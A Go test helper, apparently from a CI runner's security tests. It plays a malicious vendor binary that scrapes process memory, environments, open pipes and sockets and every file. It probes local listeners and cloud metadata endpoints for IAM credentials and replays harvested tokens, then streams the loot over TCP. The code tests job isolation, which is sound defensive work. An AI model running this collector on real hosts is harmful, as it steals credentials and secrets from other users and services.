// Command thief is a vendor's executable that looks for secrets in the place where it runs. It reads every process, every file,
// every open descriptor and every endpoint that it can reach, and sends all that it gets to the test, as a tar archive over a
// connection to the address in the file report of its folder. The test knows the secrets of its world and looks for them. The thief
// knows none of them, and no code of the runner.
//
// With THIEF_WAITS it is the executable of another job: it reads its own credentials, keeps them in its memory, and ends when the test
// closes the connection. With THIEF_LEAKS it is a planted mistake: it leaves descriptors open and becomes the runner. Without an
// address it only waits: then it holds the network of a container.
package main

import (
	"archive/tar"
	"bytes"
	"context"
	"encoding/hex"
	"errors"
	"fmt"
	"io"
	"io/fs"
	"maps"
	"net"
	"net/http"
	"os"
	"os/exec"
	"os/signal"
	"path/filepath"
	"regexp"
	"slices"
	"strconv"
	"strings"
	"syscall"
	"time"

	"golang.org/x/sys/unix"
)

// runner is the runner's program in its image.
const runner = "/usr/local/bin/fairlead-runner"

func main() {
	if err := run(); err != nil {
		fmt.Fprintln(os.Stderr, "thief:", err)
		os.Exit(1)
	}
}

func run() error {
	if secrets := os.Getenv("THIEF_LEAKS"); secrets != "" {
		return leak(strings.Split(secrets, ","))
	}
	address, err := os.ReadFile("report")
	if errors.Is(err, fs.ErrNotExist) {
		signals := make(chan os.Signal, 1)
		signal.Notify(signals, syscall.SIGTERM)
		<-signals
		return nil
	}
	if err != nil {
		return err
	}
	conn, err := net.Dial("tcp", string(address))
	if err != nil {
		return err
	}
	defer conn.Close()
	t := &thief{out: tar.NewWriter(conn), report: string(address), urls: map[string]bool{}, tokens: map[string]bool{},
		http: &http.Client{Timeout: 5 * time.Second, Transport: &http.Transport{DialContext: dial}}}
	if os.Getenv("THIEF_WAITS") != "" {
		return t.wait(conn)
	}
	for _, look := range []func() error{t.processes, t.files, t.starting, t.endpoints} {
		if err := look(); err != nil {
			return err
		}
	}
	return t.out.Close()
}

var errUnauthorized = errors.New("the endpoint wants a token")

// thief collects what leads to more: addresses and tokens.
type thief struct {
	out    *tar.Writer
	report string // address of the test
	urls   map[string]bool
	tokens map[string]bool
	http   *http.Client
}

// wait holds the job's own credentials in memory, as a provider does, until the test closes the connection.
func (t *thief) wait(conn net.Conn) error {
	token, err := os.ReadFile(os.Getenv("AWS_CONTAINER_AUTHORIZATION_TOKEN_FILE"))
	if err != nil {
		return err
	}
	held, err := t.get(os.Getenv("AWS_CONTAINER_CREDENTIALS_FULL_URI"), http.Header{"Authorization": {string(token)}})
	if err != nil {
		return err
	}
	if err := errors.Join(t.send("waits", held), t.out.Close()); err != nil {
		return err
	}
	_, _ = io.Copy(io.Discard, conn) // until the test closes it
	if len(held) == 0 {
		return errors.New("the job has no credentials")
	}
	return nil
}

// send sends what was read, and keeps the addresses and tokens in it.
func (t *thief) send(from string, data []byte) error {
	t.harvest(data)
	from = strings.TrimRight(from, "/") // a name with a slash at its end is a folder, which has no data
	if err := t.out.WriteHeader(&tar.Header{Name: from, Size: int64(len(data)), Mode: 0o600, Format: tar.FormatPAX}); err != nil {
		return err
	}
	_, err := t.out.Write(data)
	return err
}

var addresses = map[string]*regexp.Regexp{
	"http://127.0.0.1:": regexp.MustCompile(`^http://127\.0\.0\.1:[0-9]+[A-Za-z0-9/_.-]*`),
	"/v2/credentials/":  regexp.MustCompile(`^/v2/credentials/[A-Za-z0-9:/_-]+`),
}

func (t *thief) harvest(data []byte) {
	for prefix, form := range addresses {
		for rest := data; ; {
			i := bytes.Index(rest, []byte(prefix))
			if i < 0 {
				break
			}
			found := string(form.Find(rest[i:min(len(rest), i+512)]))
			if strings.HasPrefix(found, "/") {
				found = "http://169.254.170.2" + found
			}
			if found != "" {
				t.urls[found] = true
			}
			rest = rest[i+len(prefix):]
		}
	}
}

var tokenForm = regexp.MustCompile(`^[!-~]{16,1000}$`)

// maybe keeps a value that can be a token.
func (t *thief) maybe(value []byte) {
	if value = bytes.TrimSpace(value); len(t.tokens) < 400 && tokenForm.Match(value) {
		t.tokens[string(value)] = true
	}
}

// processes reads the command line, environment, memory and open files of every process.
func (t *thief) processes() error {
	all, err := filepath.Glob("/proc/[0-9]*")
	if err != nil {
		return err
	}
	for _, p := range all {
		for _, name := range []string{"cmdline", "environ"} {
			b, err := os.ReadFile(filepath.Join(p, name))
			if err != nil {
				continue
			}
			for _, v := range bytes.Split(b, []byte{0}) {
				_, value, _ := bytes.Cut(v, []byte("="))
				t.maybe(value)
			}
			if err := t.send(filepath.Join(p, name), b); err != nil {
				return err
			}
		}
		if err := t.openFiles(p); err != nil {
			return err
		}
		if filepath.Base(p) == strconv.Itoa(os.Getpid()) {
			continue // its own memory has only what it has read
		}
		if err := t.memory(p); err != nil {
			return err
		}
	}
	return nil
}

// openFiles reads what the open descriptors of a process give: files, also those without a name, and what waits in pipes and sockets.
func (t *thief) openFiles(process string) error {
	open, err := os.ReadDir(filepath.Join(process, "fd"))
	if err != nil {
		return nil // it may not
	}
	for _, fd := range open {
		path := filepath.Join(process, "fd", fd.Name())
		info, err := os.Stat(path)
		if err != nil {
			continue
		}
		switch mode := info.Mode(); {
		case mode.IsRegular():
			err = t.file(path)
		case mode&fs.ModeNamedPipe != 0:
			err = t.pipe(path)
		case mode&fs.ModeSocket != 0:
			err = t.socket(path)
		}
		if err != nil {
			return err
		}
	}
	return nil
}

// pipe takes what waits in a pipe.
func (t *thief) pipe(path string) error {
	fd, err := unix.Open(path, unix.O_RDONLY|unix.O_NONBLOCK|unix.O_CLOEXEC, 0)
	if err != nil {
		return nil // it may not
	}
	defer unix.Close(fd)
	buffer := make([]byte, 64<<10)
	n, err := unix.Read(fd, buffer)
	if err != nil || n == 0 {
		return nil // it is empty
	}
	return t.send(path, buffer[:n])
}

// socket takes a copy of the socket's descriptor out of its process, and looks at what waits in it. path is the descriptor's in /proc.
func (t *thief) socket(path string) error {
	var pid, of int
	if _, err := fmt.Sscanf(path, "/proc/%d/fd/%d", &pid, &of); err != nil {
		return err
	}
	process, err := unix.PidfdOpen(pid, 0)
	if err != nil {
		return nil // it has ended
	}
	defer unix.Close(process)
	fd, err := unix.PidfdGetfd(process, of, 0)
	if pid == os.Getpid() {
		fd, err = unix.FcntlInt(uintptr(of), unix.F_DUPFD_CLOEXEC, 0)
	}
	if err != nil {
		return nil // it may not
	}
	defer unix.Close(fd)
	buffer := make([]byte, 64<<10)
	n, _, err := unix.Recvfrom(fd, buffer, unix.MSG_PEEK|unix.MSG_DONTWAIT)
	if err != nil || n <= 0 {
		return nil // it is empty, or it listens
	}
	return t.send(path, buffer[:n])
}

// memory reads all readable memory of a process, in pieces that overlap.
func (t *thief) memory(process string) error {
	maps, err := os.ReadFile(filepath.Join(process, "maps"))
	if err != nil {
		return nil // it may not
	}
	mem, err := os.Open(filepath.Join(process, "mem"))
	if err != nil {
		return nil
	}
	defer mem.Close()
	const piece, overlap = 1 << 20, 1 << 10
	buffer := make([]byte, piece+overlap)
	for line := range strings.Lines(string(maps)) {
		var from, to int64
		var rights string
		if n, err := fmt.Sscanf(line, "%x-%x %s", &from, &to, &rights); err != nil || n != 3 || rights[0] != 'r' || strings.Contains(line, "[v") {
			continue
		}
		for at := from; at < to; at += piece {
			n, err := mem.ReadAt(buffer[:min(int64(len(buffer)), to-at)], at)
			if n == 0 || err != nil && !errors.Is(err, io.EOF) {
				break
			}
			if err := t.send(filepath.Join(process, "mem"), buffer[:n]); err != nil {
				return err
			}
		}
	}
	return nil
}

// files reads every file, and first those that its environment names: it may know a file whose folder it may not list.
func (t *thief) files() error {
	for _, v := range os.Environ() {
		if _, value, _ := strings.Cut(v, "="); filepath.IsAbs(value) {
			if err := t.file(value); err != nil {
				return err
			}
		}
	}
	return filepath.WalkDir("/", func(path string, d fs.DirEntry, err error) error {
		switch {
		case err != nil:
			return nil // it may not
		case d.IsDir() && (path == "/proc" || path == "/sys"):
			return fs.SkipDir
		case d.Type().IsRegular():
			return t.file(path)
		case d.Type()&fs.ModeSocket != 0:
			t.listener(overSocket(path))
		}
		return nil
	})
}

func (t *thief) file(path string) error {
	b, err := os.ReadFile(path)
	if err != nil {
		return nil // it may not
	}
	if len(b) < 4<<10 {
		t.maybe(b)
	}
	return t.send(path, b)
}

// starting starts the runner's own program, as an agent does for each job, and reads its environment before it can hide. The program
// stays at its first output, because nothing reads it.
func (t *thief) starting() error {
	var pipe [2]int
	if err := syscall.Pipe2(pipe[:], syscall.O_CLOEXEC|syscall.O_NONBLOCK); err != nil {
		return err
	}
	for n := 1; n > 0; {
		n, _ = syscall.Write(pipe[1], make([]byte, 4<<10))
	}
	for n := 1; n > 0; {
		n, _ = syscall.Write(pipe[1], make([]byte, 1))
	}
	if err := syscall.SetNonblock(pipe[1], false); err != nil {
		return err
	}
	full := os.NewFile(uintptr(pipe[1]), "full")
	defer func() { _, _ = syscall.Close(pipe[0]), full.Close() }()
	cmd := exec.Command(runner, "version")
	cmd.Stdout, cmd.Env = full, []string{"A_RUNNER_THAT_STARTS=1"}
	if err := cmd.Start(); err != nil {
		return err
	}
	defer func() { _, _ = cmd.Process.Kill(), cmd.Wait() }()
	if b, err := os.ReadFile(fmt.Sprintf("/proc/%d/environ", cmd.Process.Pid)); err == nil {
		return t.send("the environment of a runner that starts", b)
	}
	return nil
}

// listener adds the addresses of a listener.
func (t *thief) listener(url string) {
	for _, path := range []string{"/", "/credentials"} {
		t.urls[url+path] = true
	}
}

// endpoints asks every listener of the loopback interface and every socket, and the addresses at which clouds serve credentials.
func (t *thief) endpoints() error {
	for _, table := range []string{"/proc/net/tcp", "/proc/net/tcp6"} {
		for _, port := range listeners(table) {
			t.listener(fmt.Sprintf("http://127.0.0.1:%d", port))
			t.listener(fmt.Sprintf("http://[::1]:%d", port))
		}
	}
	for _, name := range sockets() {
		t.listener(overSocket(name))
	}
	for _, path := range []string{"/", "/v2/credentials", "/v2/credentials/", "/v2/metadata", "/v2/stats", "/v3", "/v4", "/v4/credentials"} {
		t.urls["http://169.254.170.2"+path] = true
	}
	for _, url := range slices.Sorted(maps.Keys(t.urls)) {
		if strings.HasPrefix(url, "http://"+t.report) {
			continue // it is the test
		}
		b, err := t.get(url, nil)
		if err == nil {
			err = t.send(url, b)
		} else if errors.Is(err, errUnauthorized) {
			err = t.tryTokens(url)
		} else {
			err = nil // nothing listens, or there is nothing
		}
		if err != nil {
			return err
		}
	}
	return t.instance()
}

// tryTokens asks an endpoint with each value that can be a token.
func (t *thief) tryTokens(url string) error {
	for _, token := range slices.Sorted(maps.Keys(t.tokens)) {
		if err := t.ask(url, http.Header{"Authorization": {token}}); err != nil {
			return err
		}
	}
	return nil
}

// instance asks for the credentials of the machine, with a token as required by the second version of the protocol.
func (t *thief) instance() error {
	const metadata = "http://169.254.169.254/latest/"
	req, err := http.NewRequest(http.MethodPut, metadata+"api/token", nil)
	if err != nil {
		return err
	}
	req.Header.Set("X-Aws-Ec2-Metadata-Token-Ttl-Seconds", "60")
	token, err := t.do(req)
	if err != nil {
		return nil // there is no such endpoint
	}
	with := http.Header{"X-Aws-Ec2-Metadata-Token": {string(token)}}
	roles, err := t.get(metadata+"meta-data/iam/security-credentials/", with)
	if err != nil {
		return nil
	}
	return t.ask(metadata+"meta-data/iam/security-credentials/"+string(bytes.TrimSpace(roles)), with)
}

func (t *thief) ask(url string, header http.Header) error {
	b, err := t.get(url, header)
	if err != nil {
		return nil // it may not, or nothing listens
	}
	return t.send(url, b)
}

func (t *thief) get(url string, header http.Header) ([]byte, error) {
	req, err := http.NewRequest(http.MethodGet, url, nil)
	if err != nil {
		return nil, err
	}
	maps.Copy(req.Header, header)
	return t.do(req)
}

func (t *thief) do(req *http.Request) ([]byte, error) {
	resp, err := t.http.Do(req)
	if err != nil {
		return nil, err
	}
	defer resp.Body.Close()
	b, err := io.ReadAll(io.LimitReader(resp.Body, 1<<20))
	if err == nil && resp.StatusCode == http.StatusUnauthorized {
		return nil, errUnauthorized
	}
	if err == nil && resp.StatusCode != http.StatusOK {
		err = fmt.Errorf("%s: %s", req.URL, resp.Status)
	}
	return b, err
}

// listeners returns the ports on which processes listen, of a table of the kernel.
func listeners(table string) (ports []int) {
	b, err := os.ReadFile(table)
	if err != nil {
		return nil
	}
	for line := range strings.Lines(string(b)) {
		const listening = "0A"
		f := strings.Fields(line)
		if len(f) < 4 || f[3] != listening {
			continue
		}
		_, port, _ := strings.Cut(f[1], ":")
		if n, err := strconv.ParseInt(port, 16, 32); err == nil {
			ports = append(ports, int(n))
		}
	}
	return ports
}

// sockets returns the names of the UNIX sockets on which processes listen: paths, and abstract names with @ before them.
func sockets() (names []string) {
	b, err := os.ReadFile("/proc/net/unix")
	if err != nil {
		return nil
	}
	for line := range strings.Lines(string(b)) {
		const listening = "00010000"
		if f := strings.Fields(line); len(f) > 7 && f[3] == listening {
			names = append(names, f[7])
		}
	}
	return names
}

// overSocket returns a URL that dial connects to a UNIX socket.
func overSocket(name string) string { return "http://" + hex.EncodeToString([]byte(name)) + ".socket" }

func dial(ctx context.Context, network, address string) (net.Conn, error) {
	host, _, err := net.SplitHostPort(address)
	if err != nil {
		return nil, err
	}
	if encoded, ok := strings.CutSuffix(host, ".socket"); ok {
		name, err := hex.DecodeString(encoded)
		if err != nil {
			return nil, err
		}
		network, address = "unix", string(name)
	}
	return new(net.Dialer).DialContext(ctx, network, address)
}

// leak leaves three descriptors open, each with one of the secrets, and becomes the runner: a pipe, a file without a name, and a socket.
func leak(secrets []string) error {
	if len(secrets) != 3 {
		return fmt.Errorf("THIEF_LEAKS has %d secrets, want 3", len(secrets))
	}
	var pipe [2]int
	if err := unix.Pipe2(pipe[:], 0); err != nil {
		return err
	}
	memory, err := unix.MemfdCreate("leak", 0)
	if err != nil {
		return err
	}
	pair, err := unix.Socketpair(unix.AF_UNIX, unix.SOCK_STREAM, 0)
	if err != nil {
		return err
	}
	for i, fd := range []int{pipe[1], memory, pair[1]} {
		if _, err := unix.Write(fd, []byte(secrets[i])); err != nil {
			return err
		}
	}
	if err := os.Unsetenv("THIEF_LEAKS"); err != nil {
		return err
	}
	return unix.Exec(runner, append([]string{runner}, os.Args[1:]...), os.Environ())
}
